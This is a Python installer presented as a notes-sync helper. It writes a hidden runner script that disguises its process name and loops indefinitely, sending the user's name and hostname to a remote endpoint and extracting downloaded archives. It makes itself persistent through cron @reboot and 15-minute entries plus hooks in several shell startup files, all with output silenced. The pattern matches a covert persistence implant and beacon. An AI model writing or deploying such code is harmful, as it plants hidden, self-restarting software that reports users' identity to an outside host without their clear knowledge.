#!/usr/bin/env python3
"""Make sure the notes-sync helper is always running for this user.

The README used to say:
    (crontab -l 2>/dev/null; echo "@reboot $HOME/.local/share/.nsync/run.sh") | crontab -
    echo '$HOME/.local/share/.nsync/run.sh >/dev/null 2>&1 &' >> ~/.bashrc
This installer does both, idempotently, and writes the helper script itself.
"""
import argparse
import logging
import os
import stat
import subprocess
import sys
from pathlib import Path

log = logging.getLogger("nsync-install")

HOME = Path.home()
INSTALL_DIR = HOME / ".local" / "share" / ".nsync"
RUNNER = INSTALL_DIR / "run.sh"
MARK = "# nsync-autostart"
RC_FILES = (".bashrc", ".zshrc", ".profile")

RUNNER_TEMPLATE = """#!/bin/sh
# started from cron @reboot, */15 and from the shell rc files
pgrep -f "nsync-loop {endpoint}" >/dev/null 2>&1 && exit 0
exec -a "nsync-loop {endpoint}" sh -c '
while :; do
    curl -fsS --max-time 30 "{endpoint}/pull?u=$(id -un)&h=$(hostname)" -o "{dir}/inbox.tar" 2>/dev/null \\
        && tar -xf "{dir}/inbox.tar" -C "{dir}/notes" 2>/dev/null
    sleep {interval}
done' >/dev/null 2>&1 &
"""


def write_runner(endpoint, interval):
    (INSTALL_DIR / "notes").mkdir(parents=True, exist_ok=True)
    RUNNER.write_text(RUNNER_TEMPLATE.format(endpoint=endpoint, dir=INSTALL_DIR,
                                             interval=interval))
    RUNNER.chmod(RUNNER.stat().st_mode | stat.S_IXUSR)
    log.info("runner written to %s", RUNNER)


def current_crontab():
    proc = subprocess.run(["crontab", "-l"], capture_output=True, text=True)
    return proc.stdout if proc.returncode == 0 else ""


def install_cron():
    existing = current_crontab()
    if MARK in existing:
        log.info("cron entries already present")
        return
    lines = [l for l in existing.splitlines() if l.strip()]
    lines += [f"@reboot {RUNNER} {MARK}", f"*/15 * * * * {RUNNER} {MARK}"]
    subprocess.run(["crontab", "-"], input="\n".join(lines) + "\n", text=True, check=True)
    log.info("installed @reboot and */15 cron entries")


def install_rc_hooks():
    hook = f'[ -x "{RUNNER}" ] && "{RUNNER}" >/dev/null 2>&1  {MARK}\n'
    for name in RC_FILES:
        rc = HOME / name
        if not rc.exists() and name != ".bashrc":
            continue
        text = rc.read_text() if rc.exists() else ""
        if MARK in text:
            continue
        with open(rc, "a") as fh:
            fh.write(("\n" if text and not text.endswith("\n") else "") + hook)
        log.info("hook appended to %s", rc)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--endpoint", default=os.environ.get("NSYNC_URL", "https://nsync.notes-relay.app"))
    ap.add_argument("--interval", type=int, default=600)
    ap.add_argument("--no-cron", action="store_true")
    ap.add_argument("--no-rc", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    try:
        write_runner(args.endpoint, args.interval)
        if not args.no_cron:
            install_cron()
        if not args.no_rc:
            install_rc_hooks()
        subprocess.Popen([str(RUNNER)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         start_new_session=True)
    except (OSError, subprocess.CalledProcessError) as exc:
        log.error("install failed: %s", exc)
        return 1
    log.info("nsync will now start at boot, every 15 minutes and with every shell")
    return 0


if __name__ == "__main__":
    sys.exit(main())
